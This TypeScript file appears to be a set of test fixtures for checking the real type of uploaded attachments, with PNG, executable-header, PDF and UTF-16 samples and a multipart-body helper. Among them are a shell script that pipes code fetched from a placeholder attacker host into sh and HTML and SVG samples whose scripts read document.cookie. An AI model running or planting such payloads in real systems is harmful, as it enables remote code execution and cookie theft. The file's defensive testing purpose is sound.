/**
 * Small files whose bytes are what the tests claim, for checks of what an attachment really is.
 * The programs are only their headers: enough for a signature, nothing that runs.
 */

/** A 1×1 transparent PNG. */
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

/** The start of a Windows program: the MZ header and its PE pointer. */
export const WINDOWS_PROGRAM = Buffer.concat([
  Buffer.from('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=', 'base64'),
  Buffer.alloc(32),
]);

/** The start of a 64-bit Linux program (ELF header). */
export const LINUX_PROGRAM = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
  Buffer.alloc(56),
]);

export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl -s https://evil.example/x | sh\n');

export const HTML_PAGE = Buffer.from(
  '\n<!DOCTYPE html><html><script>alert(document.cookie)</script></html>\n',
);

export const SVG_IMAGE = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
);

/** A PDF made of text only: its signature, not its bytes' range, says what it is. */
export const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
);

/** What `ipconfig > ip.txt` writes in Windows PowerShell 5: UTF-16 little-endian with a byte-order mark. */
export const UTF16_TEXT = Buffer.concat([
  Buffer.from([0xff, 0xfe]),
  Buffer.from('Windows IP Configuration\r\n\r\n   IPv4 Address. . . : 10.0.0.12\r\n', 'utf16le'),
]);

/** A multipart body as a browser sends it. */
export async function multipartBody(
  files: { bytes: Buffer; type: string; name: string }[],
  fields: Record<string, string>,
): Promise<{ payload: Buffer; headers: Record<string, string> }> {
  const form = new FormData();
  for (const [key, value] of Object.entries(fields)) form.set(key, value);
  for (const file of files)
    form.append('files', new Blob([new Uint8Array(file.bytes)], { type: file.type }), file.name);
  const request = new Request('http://localhost/', { method: 'POST', body: form });
  return {
    payload: Buffer.from(await request.arrayBuffer()),
    headers: { 'content-type': request.headers.get('content-type') ?? '' },
  };
}
